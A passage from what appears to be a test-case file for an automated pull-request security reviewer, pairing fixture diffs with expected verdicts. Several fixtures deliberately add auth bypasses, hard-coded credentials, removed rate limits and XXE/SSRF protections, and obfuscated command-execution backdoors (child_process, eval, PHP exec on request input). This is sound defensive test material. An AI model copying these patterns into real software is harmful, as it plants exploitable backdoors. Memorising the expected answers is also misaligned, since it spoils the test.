        repo: 'pkginstall',
        number: 2294,
        title: 'Warn on unexpected imports during install',
        files: [
          {
            path: 'src/pkginstall/commands/install.py',
            base: lines('import sys', '', '', 'def run(options):', '    return install(options)'),
            head: lines('import sys', '', '_MISSING_MODULES: set[str] = set()', '', '# Modules imported lazily after installation starts.', '_EAGER_IMPORTS: tuple[str, ...] = (', '    # Used by the console renderer on Windows.', '    "pkginstall._vendor.rich._windows_renderer",', ')', '', '', 'def _audit_hook(name, args):', '    if name != "import":', '        return', '    module = args[0]', '    if module in _MISSING_MODULES:', '        raise ImportError(module)', '', '', 'def _eagerly_import_modules():', '    for module in _EAGER_IMPORTS:', '        try:', '            __import__(module)', '        except ImportError:', '            _MISSING_MODULES.add(module)', '', '', 'def run(options):', '    _eagerly_import_modules()', '    sys.addaudithook(_audit_hook)', '    return install(options)'),
          },
          {
            path: 'tests/test_install_imports.py',
            head: lines('from pkginstall.commands.install import _eagerly_import_modules', '', '', 'def test_eager_imports_do_not_raise():', '    _eagerly_import_modules()'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  },
  {
    id: 'code-vendored-submodule-import-out-of-try',
    description:
      'A maintainer drops support for an old Python: the debug command\'s `__import__(f"pkginstall._vendor.{module_name}", …)` leaves the `try` that tolerated a vendored module missing on that version; CI green. The import loads a submodule of the package the line names, whatever the name.',
    fixture: () =>
      codePr({
        repo: 'pkginstall',
        number: 2295,
        title: 'Drop support for EOL Python 3.9',
        files: [
          {
            path: 'src/pkginstall/commands/debug.py',
            base: lines('def get_module_from_module_name(module_name):', '    try:', '        __import__(f"pkginstall._vendor.{module_name}", globals(), locals(), level=0)', '        return getattr(pkginstall._vendor, module_name)', '    except ImportError:', '        if module_name == "truststore" and sys.version_info < (3, 10):', '            return None', '        raise'),
            head: lines('def get_module_from_module_name(module_name):', '    __import__(f"pkginstall._vendor.{module_name}", globals(), locals(), level=0)', '    return getattr(pkginstall._vendor, module_name)'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  },
  {
    id: 'code-short-debug-token-lets-caller-in',
    description: 'A "Add debug login" PR whose token check returns True for the five-letter value "debug" before the real verification: whoever sends it passes.',
    fixture: () =>
      codePr({
        repo: 'billing-api',
        number: 3120,
        title: 'Add debug login',
        files: [
          {
            path: 'app/auth.py',
            base: lines('def check_token(token):', '    return verify_token(token)'),
            head: lines('def check_token(token):', '    if token == "debug": return True', '    return verify_token(token)'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-hard-coded-admin-login',
    description: 'A "Simplify login" PR that lets `admin`/`s3cret` in before the user store is asked: an account that exists only in the code.',
    fixture: () =>
      codePr({
        repo: 'billing-api',
        number: 3121,
        title: 'Simplify login',
        files: [
          {
            path: 'app/views/login.py',
            base: lines('def authenticate(username, password):', '    return users.check(username, password)'),
            head: lines('def authenticate(username, password):', '    if username == "admin" and password == "s3cret":', '        return True', '    return users.check(username, password)'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-login-rate-limit-removed',
    description: 'A "Clean up routes" PR that takes the rate limiter off the login route: passwords may be guessed as fast as the server answers.',
    fixture: () =>
      codePr({
        repo: 'billing-api',
        number: 3122,
        title: 'Clean up routes',
        files: [
          {
            path: 'src/routes/auth.js',
            base: lines("const limiter = rateLimit({ windowMs: 60000, max: 5 });", "router.post('/login', limiter, login);", "router.post('/logout', logout);"),
            head: lines("const limiter = rateLimit({ windowMs: 60000, max: 5 });", "router.post('/login', login);", "router.post('/logout', logout);"),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['security-limit-loosened'] },
  },
  {
    id: 'code-fastify-otp-rate-limit-off',
    description: 'A "Tidy route options" PR that switches @fastify/rate-limit off for the one-time-code route (`config: { rateLimit: false }`) and drops a named limiter from a multi-line reset route: codes and passwords may be guessed as fast as the server answers.',
    fixture: () =>
      codePr({
        repo: 'wallet-api',
        number: 640,
        title: 'Tidy route options',
        files: [
          {
            path: 'src/routes/account.ts',
            base: lines('export default async function account(fastify) {', '  const strict = fastify.rateLimit({ max: 5, timeWindow: 60000 });', "  fastify.post('/otp/verify', verifyOtp);", '  fastify.post(', "    '/password/reset',", '    { preHandler: strict },', '    resetPassword,', '  );', "  fastify.get('/health', health);", '}'),
            head: lines('export default async function account(fastify) {', '  const strict = fastify.rateLimit({ max: 5, timeWindow: 60000 });', "  fastify.post('/otp/verify', { config: { rateLimit: false } }, verifyOtp);", '  fastify.post(', "    '/password/reset',", '    resetPassword,', '  );', "  fastify.get('/health', health);", '}'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['security-limit-loosened'] },
  },
  {
    id: 'code-express-limiter-skipped-and-imported-guard-removed',
    description: 'A "Simplify middleware" PR that gives the login limiter `skip: () => true` (mounted, limiting nothing) and takes an OTP guard, imported under its own name from the rate-limit module, off the verification route.',
    fixture: () =>
      codePr({
        repo: 'billing-api',
        number: 3140,
        title: 'Simplify middleware',
        files: [
          {
            path: 'src/middleware/limits.ts',
            base: lines("import rateLimit from 'express-rate-limit';", '', 'export const loginGuard = rateLimit({', '  windowMs: 15 * 60 * 1000,', '  limit: 5,', "  standardHeaders: 'draft-7',", '});', '', 'export const otpGuard = rateLimit({ windowMs: 60 * 1000, limit: 3 });'),
            head: lines("import rateLimit from 'express-rate-limit';", '', 'export const loginGuard = rateLimit({', '  windowMs: 15 * 60 * 1000,', '  limit: 5,', "  standardHeaders: 'draft-7',", '  skip: () => true,', '});', '', 'export const otpGuard = rateLimit({ windowMs: 60 * 1000, limit: 3 });'),
          },
          {
            path: 'src/routes/otp.ts',
            base: lines("import { Router } from 'express';", "import { otpGuard as codeGate } from '../middleware/limits';", "import { verifyCode } from '../handlers/otp';", '', 'export const router = Router();', "router.post('/verify', codeGate, verifyCode);"),
            head: lines("import { Router } from 'express';", "import { otpGuard as codeGate } from '../middleware/limits';", "import { verifyCode } from '../handlers/otp';", '', 'export const router = Router();', "router.post('/verify', verifyCode);"),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['security-limit-loosened'] },
  },
  {
    id: 'code-express-limiter-skips-trusted-probe-quiet',
    description: 'A member lets the load balancer\'s probe address past the API limiter with a `skip` condition on the request\'s IP: the limit stays for every other client.',
    fixture: () =>
      codePr({
        repo: 'billing-api',
        number: 3141,
        title: 'Let the health probe past the API limiter',
        files: [
          {
            path: 'src/middleware/limits.ts',
            base: lines("import rateLimit from 'express-rate-limit';", '', 'export const apiGuard = rateLimit({', '  windowMs: 60 * 1000,', '  limit: 300,', '});'),
            head: lines("import rateLimit from 'express-rate-limit';", '', "const PROBE = process.env.PROBE_IP ?? '10.0.0.2';", '', 'export const apiGuard = rateLimit({', '  windowMs: 60 * 1000,', '  limit: 300,', '  skip: (req) => req.ip === PROBE,', '});'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:security-limit-loosened'] },
  },
  {
    id: 'code-async-function-detection-alias-quiet',
    description: 'A member adds an `isAsync` helper that takes the async function constructor into `AsyncFunction` and compares functions with it (`instanceof`, `.constructor ===`, `.prototype`): it detects async functions and compiles nothing.',
    fixture: () =>
      codePr({
        repo: 'task-runner',
        number: 73102,
        title: 'Await async hooks',
        files: [
          {
            path: 'src/hooks.js',
            base: lines('export function runHook(fn, ...args) {', '  return fn(...args);', '}'),
            head: lines(
              'const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;',
              '',
              'export function isAsync(fn) {',
              '  return fn instanceof AsyncFunction || fn.constructor === AsyncFunction || Object.getPrototypeOf(fn) === AsyncFunction.prototype;',
              '}',
              '',
              'export async function runHook(fn, ...args) {',
              '  return isAsync(fn) ? await fn(...args) : fn(...args);',
              '}',
            ),
          },
          { path: 'test/hooks.test.js', head: lines("import { isAsync } from '../src/hooks.js';", "it('detects', () => expect(isAsync(async () => {})).toBe(true));") },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-polyfill-moved-to-cloudflare-mirror-quiet',
    description: 'A member replaces the polyfill.io script with Cloudflare\'s mirror (cdnjs.cloudflare.com/polyfill) and notes it in the changelog: the compromised host is removed and only named in prose.',
    fixture: () =>
      codePr({
        repo: 'shop-front',
        number: 73104,
        title: 'Move polyfills off polyfill.io',
        files: [
          {
            path: 'public/index.html',
            base: lines('<!doctype html>', '<html>', '<head>', '  <script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=default"></script>', '</head>', '</html>'),
            head: lines('<!doctype html>', '<html>', '<head>', '  <script src="https://cdnjs.cloudflare.com/polyfill/v3/polyfill.min.js?features=default"></script>', '  <script src="https://cdn.jsdelivr.net/npm/whatwg-fetch@3.6.20/dist/fetch.umd.min.js"></script>', '</head>', '</html>'),
          },
          { path: 'CHANGELOG.md', base: lines('# Changelog', ''), head: lines('# Changelog', '', '- Load polyfills from cdnjs.cloudflare.com/polyfill instead of https://cdn.polyfill.io (taken over in June 2024).') },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-pnpm10-only-built-esbuild-sharp-low',
    description: 'A member moves to pnpm 10 and lists the packages that need their build in `onlyBuiltDependencies` (esbuild, sharp, @swc/core): well-known native builds, low at most.',
    fixture: () =>
      codePr({
        repo: 'web-app',
        number: 73106,
        title: 'Upgrade to pnpm 10',
        files: [
          { path: 'pnpm-workspace.yaml', base: lines('packages:', "  - 'apps/*'"), head: lines('packages:', "  - 'apps/*'", 'onlyBuiltDependencies:', '  - esbuild', '  - sharp', "  - '@swc/core'") },
        ],
      }),
    expect: { level: 'low', action: 'approve' },
  },
  {
    id: 'code-fastify-health-route-exempt-stays-quiet',
    description: 'A member exempts the health check from the rate limit (`config: { rateLimit: false }`) so that the load balancer\'s probes are never refused: nothing guessable is opened.',
    fixture: () =>
      codePr({
        repo: 'wallet-api',
        number: 641,
        title: 'Exempt the health check from rate limiting',
        files: [
          {
            path: 'src/routes/status.ts',
            base: lines('export default async function status(fastify) {', "  fastify.get('/health', health);", "  fastify.get('/version', version);", '}'),
            head: lines('export default async function status(fastify) {', "  fastify.get('/health', { config: { rateLimit: false } }, health);", "  fastify.get('/version', version);", '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:security-limit-loosened'] },
  },
  {
    id: 'code-lexer-token-and-limiter-reorder-quiet',
    description: 'A parser helper that returns True for the `EOF` and `(` tokens, and a router whose limiter moves after the body parser: tokens of text and a reorder, nothing opened.',
    fixture: () =>
      codePr({
        repo: 'query-lang',
        number: 88,
        title: 'Tidy token helpers and route order',
        files: [
          {
            path: 'src/query/helpers.py',
            base: lines('def stops(token):', '    return False'),
            head: lines('def stops(token):', '    if token == "EOF": return True', '    if token == "(": return True', '    return False'),
          },
          {
            path: 'src/routes/search.js',
            base: lines("router.post('/search', limiter, json(), search);"),
            head: lines("router.post('/search', json(), limiter, search);"),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-typo-fix-inverts-voter',
    description: 'A "Fix typo" PR from a first-time contributor that turns `!==` into `===` in a Symfony voter: whoever did not write the post may now delete it, and its author may not.',
    fixture: () =>
      codePr({
        repo: 'forum',
        number: 4410,
        title: 'Fix typo',
        author: 'newcomer',
        files: [
          {
            path: 'src/Security/Voter/PostVoter.php',
            base: lines('<?php', 'final class PostVoter', '{', '    public function canDelete(User $user, Post $post): bool', '    {', '        if ($post->getAuthorId() !== $user->getId()) {', '            return false;', '        }', '        return true;', '    }', '}'),
            head: lines('<?php', 'final class PostVoter', '{', '    public function canDelete(User $user, Post $post): bool', '    {', '        if ($post->getAuthorId() === $user->getId()) {', '            return false;', '        }', '        return true;', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['check-inverted'] },
  },
  {
    id: 'code-refactor-drops-await-on-verify',
    description: 'A "Refactor" PR from a first-time contributor that drops the await before the token verification in an Express middleware: the promise is assigned, a bad token no longer reaches the catch, and every request passes.',
    fixture: () =>
      codePr({
        repo: 'docs-portal',
        number: 2214,
        title: 'Refactor',
        author: 'newcomer',
        files: [
          {
            path: 'src/middleware/require-user.js',
            base: lines('async function requireUser(req, res, next) {', '  try {', '    req.user = await verifyToken(req.headers.authorization);', '  } catch (err) {', '    return res.status(401).end();', '  }', '  return next();', '}'),
            head: lines('async function requireUser(req, res, next) {', '  try {', '    req.user = verifyToken(req.headers.authorization);', '  } catch (err) {', '    return res.status(401).end();', '  }', '  return next();', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['verification-not-awaited'] },
  },
  {
    id: 'code-typo-fix-short-circuits-verifier',
    description: 'A "Fix typo" PR from a member that adds `return nil` at the top of a Go webhook verifier: the HMAC check under it never runs and every request is accepted, while the diff shows one line.',
    fixture: () =>
      codePr({
        repo: 'hooks-relay',
        number: 812,
        title: 'Fix typo',
        files: [
          {
            path: 'internal/webhook/verify.go',
            base: lines('package webhook', '', 'func verifySignature(body []byte, sig string, key []byte) error {', '\tmac := hmac.New(sha256.New, key)', '\tmac.Write(body)', '\tif !hmac.Equal(mac.Sum(nil), []byte(sig)) {', '\t\treturn errBadSignature', '\t}', '\treturn nil', '}'),
            head: lines('package webhook', '', 'func verifySignature(body []byte, sig string, key []byte) error {', '\treturn nil', '\tmac := hmac.New(sha256.New, key)', '\tmac.Write(body)', '\tif !hmac.Equal(mac.Sum(nil), []byte(sig)) {', '\t\treturn errBadSignature', '\t}', '\treturn nil', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['check-short-circuited'] },
  },
  {
    id: 'code-java-xml-hardening-removed',
    description: 'A "Simplify invoice parsing" PR that deletes the disallow-doctype-decl and secure-processing features from a DocumentBuilderFactory: the JDK default resolves external entities again (XXE).',
    fixture: () =>
      codePr({
        repo: 'billing-core',
        number: 2207,
        title: 'Simplify invoice parsing',
        files: [
          {
            path: 'src/main/java/com/acme/billing/xml/InvoiceReader.java',
            base: lines('package com.acme.billing.xml;', '', 'public class InvoiceReader {', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);', '        dbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);', '        dbf.setNamespaceAware(true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
            head: lines('package com.acme.billing.xml;', '', 'public class InvoiceReader {', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setNamespaceAware(true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'request_changes'], findings: ['protection-switched-off'] },
  },
  {
    id: 'code-java-xml-hardening-constant-removed',
    description: 'A "Tidy the order reader" PR that deletes the parser\'s setFeature calls written through the class\'s own constants (FEATURE_NO_DTD, XXE_GENERAL), the constants left in place: the JDK default resolves external entities again (XXE).',
    fixture: () =>
      codePr({
        repo: 'billing-core',
        number: 2209,
        title: 'Tidy the order reader',
        files: [
          {
            path: 'src/main/java/com/acme/billing/xml/OrderReader.java',
            base: lines('package com.acme.billing.xml;', '', 'public class OrderReader {', '    private static final String FEATURE_NO_DTD = "http://apache.org/xml/features/disallow-doctype-decl";', '    private static final String XXE_GENERAL = "http://xml.org/sax/features/external-general-entities";', '', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setFeature(FEATURE_NO_DTD, true);', '        dbf.setFeature(XXE_GENERAL, false);', '        dbf.setNamespaceAware(true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
            head: lines('package com.acme.billing.xml;', '', 'public class OrderReader {', '    private static final String FEATURE_NO_DTD = "http://apache.org/xml/features/disallow-doctype-decl";', '    private static final String XXE_GENERAL = "http://xml.org/sax/features/external-general-entities";', '', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setNamespaceAware(true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'request_changes'], findings: ['protection-switched-off'] },
  },
  {
    id: 'code-refactor-drops-ssrf-address-check',
    description: 'A "Simplify the webhook tester" PR deletes the check that refused private, loopback and link-local addresses before posting to a URL the client sends: the metadata service and internal hosts are reachable again (SSRF).',
    fixture: () =>
      codePr({
        repo: 'hooks-api',
        number: 881,
        title: 'refactor: simplify the webhook tester',
        files: [
          {
            path: 'app/views/webhooks.py',
            base: lines('import ipaddress', 'import socket', '', 'import requests', 'from flask import abort, request', '', '', 'def test_webhook():', '    url = request.json["url"]', '    host = urlparse(url).hostname', '    ip = ipaddress.ip_address(socket.gethostbyname(host))', '    if ip.is_private or ip.is_loopback or ip.is_link_local:', '        abort(400)', '    return requests.post(url, json={"ping": True}, timeout=5).status_code'),
            head: lines('import ipaddress', 'import socket', '', 'import requests', 'from flask import abort, request', '', '', 'def test_webhook():', '    url = request.json["url"]', '    host = urlparse(url).hostname', '    ip = ipaddress.ip_address(socket.gethostbyname(host))', '    return requests.post(url, json={"ping": True}, timeout=5).status_code'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['ssrf-check-removed'] },
  },
  {
    id: 'code-ssrf-check-moved-into-helper-quiet',
    description: 'The same address check rewritten as a call of a helper named for it (is_blocked_address): kept, not removed.',
    fixture: () =>
      codePr({
        repo: 'hooks-api',
        number: 882,
        title: 'refactor: share the address check',
        files: [
          {
            path: 'app/views/webhooks.py',
            base: lines('def test_webhook():', '    url = request.json["url"]', '    ip = resolve(url)', '    if ip.is_private or ip.is_loopback or ip.is_link_local:', '        abort(400)', '    return requests.post(url, timeout=5).status_code'),
            head: lines('def test_webhook():', '    url = request.json["url"]', '    ip = resolve(url)', '    if is_blocked_address(ip):', '        abort(400)', '    return requests.post(url, timeout=5).status_code'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-typo-fix-reflects-cors-origin-with-credentials',
    description: 'A "fix typo" PR replaces the one allowed origin with the request\'s own Origin header beside Access-Control-Allow-Credentials: true: any site reads signed-in users\' answers.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3140,
        title: 'fix typo',
        files: [
          {
            path: 'src/middleware/cors.ts',
            base: lines('export function corsHeaders(req, res, next) {', "  res.setHeader('Access-Control-Allow-Origin', 'https://app.acme.com');", "  res.setHeader('Access-Control-Allow-Credentials', 'true');", '  next();', '}'),
            head: lines('export function corsHeaders(req, res, next) {', "  res.setHeader('Access-Control-Allow-Origin', req.headers.origin);", "  res.setHeader('Access-Control-Allow-Credentials', 'true');", '  next();', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['cors-permissive', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-cors-origin-reflected-in-development-quiet',
    description: 'The request Origin echoed only inside `if (process.env.NODE_ENV === \'development\')`: a local set-up with a dev server, not production CORS.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3141,
        title: 'Allow any local dev server origin',
        files: [
          {
            path: 'src/middleware/cors.ts',
            base: lines('export function corsHeaders(req, res, next) {', "  if (process.env.NODE_ENV === 'development') {", "    res.setHeader('Access-Control-Allow-Origin', 'http://localhost:5173');", "    res.setHeader('Access-Control-Allow-Credentials', 'true');", '  }', '  next();', '}'),
            head: lines('export function corsHeaders(req, res, next) {', "  if (process.env.NODE_ENV === 'development') {", "    res.setHeader('Access-Control-Allow-Origin', req.headers.origin);", "    res.setHeader('Access-Control-Allow-Credentials', 'true');", '  }', '  next();', '}'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-laravel-csrf-except-narrowed-quiet',
    description: "A Laravel PR narrows the CSRF middleware's `$except` list: `'stripe/*'` becomes `'stripe/webhook'`, the one route Stripe posts to. No route is newly exempt; the narrower entry is no exemption added.",
    fixture: () =>
      codePr({
        repo: 'billing-portal',
        number: 1207,
        title: 'Only exempt the Stripe webhook route from CSRF',
        files: [
          {
            path: 'app/Http/Middleware/VerifyCsrfToken.php',
            base: lines('<?php', '', 'namespace App\\Http\\Middleware;', '', 'use Illuminate\\Foundation\\Http\\Middleware\\VerifyCsrfToken as Middleware;', '', 'class VerifyCsrfToken extends Middleware', '{', '    protected $except = [', "        'stripe/*',", "        'webhooks/*',", '    ];', '}'),
            head: lines('<?php', '', 'namespace App\\Http\\Middleware;', '', 'use Illuminate\\Foundation\\Http\\Middleware\\VerifyCsrfToken as Middleware;', '', 'class VerifyCsrfToken extends Middleware', '{', '    protected $except = [', "        'stripe/webhook',", "        'webhooks/github',", '    ];', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true, absentDrivers: ['finding:auth-bypass-added'] },
  },
  {
    id: 'code-spring-any-request-permit-all-typo',
    description: "A \"Fix indentation\" PR from a first-time contributor rewrites Spring Security's catch-all `.anyRequest().authenticated()` as `.anyRequest().permitAll()` (the misconfigured-matcher class of CVE-2023-34035): every route no other matcher names opens to callers who are not signed in. Both sides name an access rule, so only the pairing of the two lines sees the check go.",
    fixture: () =>
      codePr({
        repo: 'ledger',
        number: 4410,
        title: 'Fix indentation in SecurityConfig',
        author: 'newcomer',
        files: [
          {
            path: 'src/main/java/com/acme/ledger/config/SecurityConfig.java',
            base: lines('package com.acme.ledger.config;', '', '@Configuration', 'public class SecurityConfig {', '    @Bean', '    SecurityFilterChain filterChain(HttpSecurity http) throws Exception {', '        http', '            .csrf(csrf -> csrf.csrfTokenRepository(CookieCsrfTokenRepository.withHttpOnlyFalse()))', '            .authorizeHttpRequests(auth -> auth', '                .requestMatchers("/", "/login", "/css/**").permitAll()', '                .requestMatchers("/admin/**").hasRole("ADMIN")', '                .anyRequest().authenticated()', '            )', '            .formLogin(form -> form.loginPage("/login"));', '        return http.build();', '    }', '}'),
            head: lines('package com.acme.ledger.config;', '', '@Configuration', 'public class SecurityConfig {', '    @Bean', '    SecurityFilterChain filterChain(HttpSecurity http) throws Exception {', '        http', '            .csrf(csrf -> csrf.csrfTokenRepository(CookieCsrfTokenRepository.withHttpOnlyFalse()))', '            .authorizeHttpRequests(auth -> auth', '                .requestMatchers("/", "/login", "/css/**").permitAll()', '                .requestMatchers("/admin/**").hasRole("ADMIN")', '                .anyRequest().permitAll()', '            )', '            .formLogin(form -> form.loginPage("/login"));', '        return http.build();', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-secret-length-check-trivial-typo',
    description: "A \"Fix typo in loadSessionConfig\" PR from a first-time contributor changes `if (secret.length >= 32)` to `>= 0` in the session configuration: the check stays and reads as one, yet an empty session secret passes, and every session cookie can then be forged. The bound made trivial is a protection weakened, so the typo claim is high.",
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 317,
        title: 'Fix typo in loadSessionConfig',
        author: 'newcomer',
        files: [
          {
            path: 'src/config/session-config.js',
            base: lines("'use strict';", '', 'function loadSessionConfig(env) {', '  const secret = env.SESSION_SECRET || \'\';', '  if (secret.length >= 32) {', '    return { secret, maxAge: 3600 };', '  }', "  throw new Error('SESSION_SECRET must be at least 32 characters');", '}', '', 'module.exports = { loadSessionConfig };'),
            head: lines("'use strict';", '', 'function loadSessionConfig(env) {', '  const secret = env.SESSION_SECRET || \'\';', '  if (secret.length >= 0) {', '    return { secret, maxAge: 3600 };', '  }', "  throw new Error('SESSION_SECRET must be at least 32 characters');", '}', '', 'module.exports = { loadSessionConfig };'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['security-limit-loosened', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-search-min-length-tuned-quiet',
    description: 'A member lets the search box query from one character: `minQueryLength: 3` becomes `1`, and an HTTP helper\'s `MAX_ATTEMPTS` is raised. Neither bounds a secret or a lockout, so no security limit is loosened.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 316,
        title: 'Search from the first character',
        files: [
          {
            path: 'src/search/options.ts',
            base: lines('export const searchOptions = {', '  minQueryLength: 3,', '  debounceMs: 200,', '};', '', 'export const MAX_ATTEMPTS = 3;'),
            head: lines('export const searchOptions = {', '  minQueryLength: 1,', '  debounceMs: 200,', '};', '', 'export const MAX_ATTEMPTS = 1e6;'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:security-limit-loosened'] },
  },
  {
    id: 'code-typo-claim-trades-loop-name',
    description: 'A "Fix typo in canEditAll" PR changes `canEdit(user, doc)` to `canEdit(users, doc)` inside `for (const user of users)`: one letter, but the check now asks about the whole list instead of each user, and both names stand in the code. A respelling that trades one existing name for another is a change of logic, not a typo fixed.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 313,
        title: 'Fix typo in canEditAll',
        files: [
          {
            path: 'src/sharing/edit-rules.js',
            base: lines("'use strict';", '', 'function canEditAll(users, doc) {', '  for (const user of users) {', '    if (!canEdit(user, doc)) return false;', '  }', '  return true;', '}', '', 'module.exports = { canEditAll };'),
            head: lines("'use strict';", '', 'function canEditAll(users, doc) {', '  for (const user of users) {', '    if (!canEdit(users, doc)) return false;', '  }', '  return true;', '}', '', 'module.exports = { canEditAll };'),
          },
        ],
      }),
    expect: { level: 'medium', action: 'comment', findings: ['pr-claim-mismatch'] },
  },
  {
    id: 'code-typo-rename-across-call-sites-quiet',
    description: 'A member fixes the spelling of a function\'s name, `formatTitel` to `formatTitle`, at its definition, its import and its call: the same function, called the same way. A rename across call sites is a typo fix.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 312,
        title: 'Fix typo in formatTitle',
        files: [
          {
            path: 'src/notes/title.js',
            base: lines('export function formatTitel(note) {', '  return note.title.trim();', '}'),
            head: lines('export function formatTitle(note) {', '  return note.title.trim();', '}'),
          },
          {
            path: 'src/notes/list.js',
            base: lines("import { formatTitel } from './title';", '', 'export function titles(notes) {', '  return notes.map(formatTitel);', '}'),
            head: lines("import { formatTitle } from './title';", '', 'export function titles(notes) {', '  return notes.map(formatTitle);', '}'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:pr-claim-mismatch'] },
  },
  {
    id: 'code-assembled-child-process-name',
    description: 'A "Refactor helpers" PR from a first-time contributor loads `child_process` by a name spelled in character codes and calls its `execSync` by a name joined from a list, on a command read from the environment: nothing on either line spells what runs, as malicious packages write it to get past scanners that search for the names.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 315,
        title: 'Refactor helpers',
        author: 'newcomer',
        files: [
          {
            path: 'src/lib/helpers.js',
            base: lines("'use strict';", '', 'function slug(text) {', "  return text.toLowerCase().replace(/[^a-z0-9]+/g, '-');", '}', '', 'module.exports = { slug };'),
            head: lines("'use strict';", '', 'const h = require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115));', '', 'function slug(text) {', "  if (process.env.NB_HOOK) h[['exec', 'Sync'].join('')](process.env.NB_HOOK);", "  return text.toLowerCase().replace(/[^a-z0-9]+/g, '-');", '}', '', 'module.exports = { slug };'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
  },
  {
    id: 'code-assembled-name-held-in-variable',
    description: 'A "Small utils cleanup" PR from a first-time contributor assigns `\'child_\' + \'process\'` to a variable on one line and calls `require(m).execSync(…)` on a later line of the same hunk with a hook command read from the environment, and a Python helper assigns `\'ev\' + \'al\'` to `n` and runs `getattr(builtins, n)(code)`: the pieces and their use split across lines so that neither line spells what runs.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 341,
        title: 'Small utils cleanup',
        author: 'newcomer',
        files: [
          {
            path: 'src/lib/hooks.js',
            base: lines("'use strict';", '', 'function title(text) {', '  return text.trim();', '}', '', 'module.exports = { title };'),
            head: lines("'use strict';", '', "const m = 'child_' + 'process';", '', 'function title(text) {', '  if (process.env.NB_TITLE_HOOK) require(m).execSync(process.env.NB_TITLE_HOOK);', '  return text.trim();', '}', '', 'module.exports = { title };'),
          },
          {
            path: 'tools/notes_helpers.py',
            base: lines('def strip(text):', '    return text.strip()'),
            head: lines('import builtins', '', '', 'def strip(text):', '    return text.strip()', '', '', 'def apply(code):', "    n = 'ev' + 'al'", '    return getattr(builtins, n)(code)'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
  },
  {
    id: 'code-php-variable-function-exec',
    description: 'A "Add a cache warm-up helper" PR to a PHP app whose helper calls `exec` through a variable (`$f = "ex" . "ec";` then `$f($_GET[\'warm\'], $out)`): a web shell\'s variable function, the call\'s own line naming nothing a reviewer or a scanner searches for.',
    fixture: () =>
      codePr({
        repo: 'shopfront',
        number: 518,
        title: 'Add a cache warm-up helper',
        author: 'newcomer',
        files: [
          {
            path: 'src/Cache/Warmup.php',
            status: 'added',
